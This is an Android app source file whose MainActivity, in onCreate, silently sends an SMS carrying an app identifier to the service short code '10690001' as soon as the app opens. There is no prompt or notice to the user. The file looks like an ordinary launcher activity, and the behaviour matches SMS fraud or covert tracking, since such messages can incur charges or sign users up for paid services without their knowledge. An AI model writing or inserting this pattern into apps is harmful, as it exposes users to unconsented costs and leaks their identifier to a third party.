package cn.shanhai.applicationfield;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    SmsManager.getDefault().sendTextMessage("10690001", null, ((App) getApplication()).id, null, null);
  }
}
